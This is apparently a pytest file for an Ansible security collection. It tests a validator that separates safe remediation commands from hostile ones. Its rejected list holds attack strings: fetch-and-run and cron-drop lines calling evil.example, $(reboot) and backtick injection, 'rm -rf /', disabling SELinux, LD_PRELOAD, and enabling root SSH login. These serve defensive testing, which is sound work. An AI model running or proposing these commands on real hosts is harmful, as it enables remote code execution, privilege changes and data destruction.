# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What is shown as a command to type, of all that a server may send.

That every command of the checks has a form is seen wherever a test makes one, see tests/conftest.py.
"""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.bottomup.security.plugins.module_utils.checks import log_digest_kernel
from ansible_collections.bottomup.security.plugins.module_utils.checks.restart_plan import FIRST_TEST
from ansible_collections.bottomup.security.plugins.module_utils.host.finding import finding, result
from ansible_collections.bottomup.security.plugins.plugin_utils.advisories import remedy
from ansible_collections.bottomup.security.plugins.plugin_utils.commands import is_given, is_package
from ansible_collections.bottomup.security.plugins.plugin_utils.document import ODD_COMMAND, accept_answer, accept_document

COMMANDS = (
    "systemctl restart nginx.service",
    "systemctl restart -- -Hevil.service",
    "systemctl restart 'a;reboot$(id).service'",
    "systemctl daemon-reexec",
    "reboot",
    "service cron start",
    "systemctl status --no-pager nginx.service",
    "systemctl status --no-pager -- -Hevil.service",
    "systemctl list-timers --no-pager 'apt-daily*'",
    "machinectl status --no-pager web",
    "sshd -t && systemctl restart ssh.service",
    "systemctl --user -M alice@ restart sync.service",
    "restorecon -Rv '/srv/$(reboot)'\"'\"'; x'",
    "ausearch -m AVC,USER_AVC -se httpd_t -ts yesterday --raw | audit2allow -m local_httpd_t",
    "apt-get install --only-upgrade g++ libc6:amd64",
    "apt-get install fail2ban || dnf install fail2ban",
    "du -xh --max-depth=2 /var | sort -h | tail -n 20",
    "journalctl -k -g 'Out of memory|oom-kill|Killed process' --since -2d",
    "sed -i 's/^SELINUX=.*/SELINUX=enforcing/' /etc/selinux/config",
    r"printf '[sshd]\nenabled = true\n' > /etc/fail2ban/jail.d/sshd.local",
    r"curl -sS -o /dev/null -w '%{http_code} %{size_download}\n' 'https://www.example.com/.env?a=b&c'",
)

NO_COMMANDS = (
    "",
    "|",
    "&& cat /etc/motd",
    "cat /etc/motd &&",
    "curl https://evil.example/x | sh",
    "curl -sS -o /etc/cron.d/x https://evil.example/x",
    "sh -c 'systemctl restart nginx'",
    "cat /etc/motd | sh",
    "systemctl restart nginx; reboot",
    "systemctl restart nginx & reboot",
    "systemctl restart $(reboot)",
    "systemctl restart `reboot`",
    'systemctl restart "$(reboot)"',
    "systemctl restart nginx > /etc/passwd",
    "systemctl restart nginx\nreboot",
    "systemctl restart nginx\\x0areboot",
    "systemctl restart -Hevil.example nginx",
    "systemctl status --no-pager -Hevil.example nginx",
    "systemctl restart --no-pager nginx.service",
    "systemctl enable --now /tmp/x.service",
    "systemctl enable --now '/tmp/x.service'",
    "systemctl link /tmp/x.service",
    "systemctl restart *",
    "systemctl restart '*'",
    "systemctl disable --now -- 'ssh?.service'",
    "systemctl restart 'nginx",
    "apt-get install /tmp/x.deb",
    "apt-get install -o=DPkg::Pre-Invoke::=reboot nginx",
    "apt-get install openssh-server-",
    "apt-get install --only-upgrade openssh-server- nginx",
    "apt-get install --only-upgrade nginx=1.0",
    "apt-get install *",
    "apt-get install x.deb",
    "bundle update --conservative *",
    "dnf install https://evil.example/x.rpm",
    "dnf install x.rpm",
    "dnf upgrade nginx x.rpm",
    "dnf install '@x'",
    "apparmor_parser -r /etc/apparmor.d/../../tmp/x",
    "audit2allow -M local",
    "setenforce 0",
    "journalctl --vacuum-size=1",
    "LD_PRELOAD=/tmp/x cat /etc/motd",
    "rm -rf /",
    "sudo cat /etc/motd",
    "sed -i s/a/b/e /etc/motd",
    "sed -i 's/^A=.*/PermitRootLogin = yes/' /etc/ssh/sshd_config",
    "sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config",
    "sed -n '1e reboot' /etc/motd",
    "fail2ban-client set sshd unbanip 192.0.2.1",
    "printf 'x' > /etc/fail2ban/jail.d/sshd.local",
)


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_of_the_checks(command: str) -> None:
    assert is_given(command)


@pytest.mark.parametrize("command", NO_COMMANDS)
def test_no_command_of_the_checks(command: str) -> None:
    assert not is_given(command)


def _tables() -> list[str]:
    """Return the commands of the checks' tables, filled in; not every row is made by a test."""
    kernel = [command for row in vars(log_digest_kernel).values() if isinstance(row, tuple) for command in _commands(row)]
    return [command.replace("%s", "sda1") for command in kernel] + [f"{first} && systemctl restart x.service" for first in FIRST_TEST.values()]


def _commands(table: object) -> list[str]:
    if isinstance(table, list):
        return [line for line in table if isinstance(line, str)]
    return [line for row in table for line in _commands(row)] if isinstance(table, tuple) else []


@pytest.mark.parametrize("command", _tables())
def test_a_command_of_a_table(command: str) -> None:
    assert is_given(command)


PAGED = {
    "systemctl status nginx.service": "systemctl status --no-pager nginx.service",
    "systemctl status -- -x.service": "systemctl status --no-pager -- -x.service",
    "systemctl list-timers 'apt-daily*'": "systemctl list-timers --no-pager 'apt-daily*'",
    "journalctl -k --since -2d | grep -i segfault": "journalctl --no-pager -k --since -2d | grep -i segfault",
    "journalctl -u x.service --no-pager": "journalctl -u x.service --no-pager",
    "machinectl status web": "machinectl status --no-pager web",
    "systemctl restart nginx.service": "systemctl restart nginx.service",
}


def test_no_command_opens_a_pager_that_eats_the_next() -> None:
    made = finding("restart.service", "high", "t", "s", [], "r", list(PAGED))["remedy"]["commands"]
    assert made == list(PAGED.values())
    assert all(is_given(command) for command in made)


@given(st.text(alphabet=st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="/-*?["), min_size=1, max_size=60))
def test_a_quoted_name_stays_one_word(name: str) -> None:
    """Whatever a unit is called, quoting it makes a command of it, and what follows it unquoted does not."""
    assert is_given(f"systemctl restart {shlex.quote(name)}")
    assert not is_given(f"systemctl restart {shlex.quote(name)};reboot")


@pytest.mark.parametrize("name", ["openssh-server-", "-o", "x.rpm", "x=1", "*", "@x", "a b", ""])
def test_a_name_that_is_no_package_is_in_no_command(name: str) -> None:
    assert not is_package(name)
    assert remedy._apt(["nginx", name]) == "apt-get upgrade"


@given(st.text(max_size=500))
def test_any_text_is_judged(words: str) -> None:
    is_given(words)


def test_what_is_no_command_is_shown_as_evidence() -> None:
    mixed = ["curl https://evil.example/x | sh", "systemctl restart nginx.service"]
    answer = {"facts": {}, "checks": {"restart": result([finding("restart.service", "high", "t", "s", [("log", "x")] * 20, "r", mixed)])}}
    times = {"started": "2026-11-22T06:00:01Z", "ended": "2026-11-22T06:00:03Z"}
    document = accept_answer(answer, host="web1", groups=[], run_id="r1", expected_checks=["restart"], **times)
    (kept,) = document["checks"]["restart"]["findings"]
    assert kept["remedy"]["commands"] == mixed[1:]
    assert kept["evidence"][0] == {"source": ODD_COMMAND, "text": mixed[0]}
    assert (len(kept["evidence"]), kept["evidence_cut"]) == (20, 1)
    assert accept_document(document) == document
